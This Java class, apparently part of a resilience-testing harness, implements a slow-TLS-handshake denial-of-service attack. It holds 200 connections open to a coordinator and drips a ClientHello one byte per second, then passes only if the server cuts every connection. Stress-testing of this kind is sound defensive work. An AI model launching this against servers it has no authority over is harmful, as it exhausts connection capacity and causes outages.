package dev.parallax.attack.stranger;

import dev.parallax.attack.Attack;
import dev.parallax.attack.AttackRecord;
import dev.parallax.attack.AttackResult;
import dev.parallax.attack.Installation;
import java.io.IOException;
import java.net.SocketTimeoutException;

/** 200 connections that send a ClientHello at one byte a second. */
public final class SlowHandshakes implements Attack {
  private static final int CONNECTIONS = 200;

  /** Handshake record of 512 bytes, ClientHello, TLS 1.2 as its legacy version. */
  private static final byte[] START = {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};

  private final HeldSockets sockets = new HeldSockets();
  private int cut;
  private long seconds;

  @Override
  public String name() {
    return "stranger/slow-tls";
  }

  @Override
  public String launch(Installation at) throws InterruptedException {
    long started = System.nanoTime();
    long end = at.end();
    for (int i = 0; i < CONNECTIONS; i++) {
      try {
        sockets.open(at.coordinatorAddress(), 2_000);
      } catch (IOException refused) {
        cut++;
      }
    }
    for (int at0 = 0; sockets.count() > 0 && System.nanoTime() < end; at0++) {
      drip(at0);
      Thread.sleep(1_000);
    }
    seconds = (System.nanoTime() - started) / 1_000_000_000;
    return CONNECTIONS + " TLS handshakes, a byte a second";
  }

  private void drip(int position) {
    for (var socket : sockets) {
      try {
        socket.getOutputStream().write(position < START.length ? START[position] : 0);
        if (socket.getInputStream().read() < 0) {
          throw new IOException("closed by the server");
        }
      } catch (SocketTimeoutException open) {
        // The server is still waiting.
      } catch (IOException closed) {
        cut++;
        sockets.drop(socket);
      }
    }
  }

  @Override
  public AttackResult judge(AttackRecord evidence) {
    return AttackResult.of(
        cut == CONNECTIONS, "%d of %d cut within %d s".formatted(cut, CONNECTIONS, seconds));
  }

  @Override
  public void close() {
    sockets.close();
  }
}
